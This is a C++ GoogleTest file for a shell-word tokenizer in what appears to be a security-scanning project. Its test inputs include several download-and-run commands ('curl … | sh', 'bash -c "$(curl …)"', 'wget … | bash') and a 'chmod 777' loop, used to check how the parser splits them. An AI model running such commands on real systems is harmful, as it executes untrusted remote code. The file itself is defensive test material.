#include "parse/shell_words.hpp"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace bulwark::parse {
namespace {

std::vector<std::string> Words(const ShellCommand& cmd) {
  std::vector<std::string> out;
  for (const ShellWord& w : cmd.words) out.push_back(w.text);
  return out;
}

std::vector<std::vector<std::string>> AllWords(const ShellScript& script) {
  std::vector<std::vector<std::string>> out;
  for (const ShellCommand& cmd : script.commands) out.push_back(Words(cmd));
  return out;
}

using Lines = std::vector<std::vector<std::string>>;

TEST(ShellWords, SplitsOnOperators) {
  ShellScript s =
      SplitShell("apt-get update && apt-get install -y curl || true; echo a | tee b & wait\nls");
  EXPECT_EQ(AllWords(s), (Lines{{"apt-get", "update"},
                                {"apt-get", "install", "-y", "curl"},
                                {"true"},
                                {"echo", "a"},
                                {"tee", "b"},
                                {"wait"},
                                {"ls"}}));
  EXPECT_EQ(s.commands[0].next, ShellOperator::kAnd);
  EXPECT_EQ(s.commands[1].next, ShellOperator::kOr);
  EXPECT_EQ(s.commands[2].next, ShellOperator::kSemicolon);
  EXPECT_EQ(s.commands[3].next, ShellOperator::kPipe);
  EXPECT_EQ(s.commands[4].next, ShellOperator::kBackground);
  EXPECT_EQ(s.commands[5].next, ShellOperator::kNewline);
  EXPECT_EQ(s.commands[3].pipeline, s.commands[4].pipeline);
  EXPECT_NE(s.commands[2].pipeline, s.commands[3].pipeline);
  EXPECT_NE(s.commands[4].pipeline, s.commands[5].pipeline);
}

TEST(ShellWords, QuotesEscapesAndOffsets) {
  std::string script = "echo 'a b' \"c $HOME \\\"d\\\"\" e\\ f";
  ShellScript s = SplitShell(script);
  ASSERT_EQ(s.commands.size(), 1u);
  EXPECT_EQ(Words(s.commands[0]),
            (std::vector<std::string>{"echo", "a b", "c $HOME \"d\"", "e f"}));
  const ShellWord& quoted = s.commands[0].words[1];
  EXPECT_TRUE(quoted.quoted);
  EXPECT_EQ(script.substr(quoted.offset, quoted.end - quoted.offset), "'a b'");
  EXPECT_FALSE(s.commands[0].words[0].quoted);
}

TEST(ShellWords, AssignmentsRedirectsAndComments) {
  ShellScript s = SplitShell(
      "DEBIAN_FRONTEND=noninteractive apt-get install x > /dev/null 2>&1 # comment | sh\n"
      "cat < in.txt 2> err.log >> out.log");
  ASSERT_EQ(s.commands.size(), 2u);
  ASSERT_EQ(s.commands[0].assignments.size(), 1u);
  EXPECT_EQ(s.commands[0].assignments[0].text, "DEBIAN_FRONTEND=noninteractive");
  EXPECT_EQ(Words(s.commands[0]), (std::vector<std::string>{"apt-get", "install", "x"}));
  ASSERT_EQ(s.commands[0].redirects.size(), 1u);
  EXPECT_EQ(s.commands[0].redirects[0].text, "/dev/null");
  EXPECT_EQ(Words(s.commands[1]), (std::vector<std::string>{"cat"}));
  EXPECT_EQ(s.commands[1].redirects.size(), 3u);
}

TEST(ShellWords, CommandSubstitutionsAreTokenized) {
  std::string script = "bash -c \"$(curl -fsSL https://x.sh)\" && v=`wget -qO- u` && sh <(curl y)";
  ShellScript s = SplitShell(script);
  std::vector<std::string> programs;
  for (const ShellCommand& c : s.commands) {
    if (!c.words.empty()) programs.push_back(c.words[0].text + "@" + std::to_string(c.depth));
  }
  EXPECT_EQ(programs, (std::vector<std::string>{"curl@1", "bash@0", "wget@1", "curl@1", "sh@0"}));
  // The inner curl lies inside the outer word's byte range.
  const ShellCommand& bash = s.commands[1];
  const ShellCommand& curl = s.commands[0];
  EXPECT_GE(curl.offset, bash.words[2].offset);
  EXPECT_LT(curl.offset, bash.words[2].end);
  EXPECT_EQ(bash.words[2].text, "$(curl -fsSL https://x.sh)");
}

TEST(ShellWords, CompoundCommandsAndGroups) {
  ShellScript s = SplitShell(
      "if [ -f x ]; then curl a | sh; fi\n"
      "for f in *.sh; do chmod 777 \"$f\"; done\n"
      "(cd /tmp && wget b) | bash\n"
      "{ echo a; echo b; } > out");
  Lines lines = AllWords(s);
  EXPECT_EQ(lines[0], (std::vector<std::string>{"[", "-f", "x", "]"}));
  EXPECT_EQ(lines[1], (std::vector<std::string>{"curl", "a"}));
  EXPECT_EQ(s.commands[1].next, ShellOperator::kPipe);
  EXPECT_EQ(lines[2], (std::vector<std::string>{"sh"}));
  EXPECT_EQ(lines[4], (std::vector<std::string>{"chmod", "777", "$f"}));
  // `(... wget b) | bash`: the pipe after the group belongs to wget.
  size_t wget = 0;
  while (wget < lines.size() && (lines[wget].empty() || lines[wget][0] != "wget")) ++wget;
  ASSERT_LT(wget + 1, lines.size());
  EXPECT_EQ(s.commands[wget].next, ShellOperator::kPipe);
  EXPECT_EQ(lines[wget + 1], (std::vector<std::string>{"bash"}));
  EXPECT_EQ(s.commands[wget].pipeline, s.commands[wget + 1].pipeline);
}

TEST(ShellWords, CasePatternsAreNotPipes) {
  ShellScript s = SplitShell(
      "case \"$arch\" in\n"
      "  amd64 | arm64) echo ok ;;\n"
      "  *) curl x | sh ;;\n"
      "esac; echo after");
  Lines lines = AllWords(s);
  EXPECT_EQ(
      lines,
      (Lines{{"case", "$arch", "in"}, {"echo", "ok"}, {"curl", "x"}, {"sh"}, {"echo", "after"}}));
  EXPECT_NE(s.commands[1].next, ShellOperator::kPipe);
  EXPECT_EQ(s.commands[2].next, ShellOperator::kPipe);
}

TEST(ShellWords, HeredocBodiesAreSkipped) {
  ShellScript s = SplitShell(
      "cat <<'EOF' > /etc/x\ncurl evil | sh\nEOF\necho done\n\tcat <<-END\n\tx | y\n\tEND\n");
  EXPECT_EQ(AllWords(s), (Lines{{"cat"}, {"echo", "done"}, {"cat"}}));
  EXPECT_EQ(s.commands[0].redirects[0].text, "EOF");
}

TEST(ShellWords, LineContinuationsInsideScripts) {
  ShellScript s = SplitShell("apt-get install \\\n  -y \\\r\n  curl");
  ASSERT_EQ(s.commands.size(), 1u);
  EXPECT_EQ(Words(s.commands[0]), (std::vector<std::string>{"apt-get", "install", "-y", "curl"}));
}

TEST(ShellWords, CommandName) {
  EXPECT_EQ(CommandName("/usr/bin/curl"), "curl");
  EXPECT_EQ(CommandName("curl"), "curl");
  EXPECT_EQ(CommandName(""), "");
}

TEST(ShellWords, HostileInputNeverCrashes) {
  std::string deep;
  for (int i = 0; i < 20000; ++i) deep += "$(";
  EXPECT_NO_THROW(SplitShell(deep));
  std::string nested;
  for (int i = 0; i < 200; ++i) nested += "$(echo ";
  for (int i = 0; i < 200; ++i) nested += ")";
  ShellScript s = SplitShell(nested);
  EXPECT_FALSE(s.commands.empty());
  for (const char* text : {"'unterminated", "\"open $(", "`", "a <", "x 2>&", "${", "case x in a|",
                           "<<", "echo \\", "$'\\", "((((((", "))))"}) {
    EXPECT_NO_THROW(SplitShell(text)) << text;
  }
  std::string binary;
  for (int i = 0; i < 100000; ++i) binary += static_cast<char>((i * 37 + 11) % 256);
  EXPECT_NO_THROW(SplitShell(binary));
}

}  // namespace
}  // namespace bulwark::parse
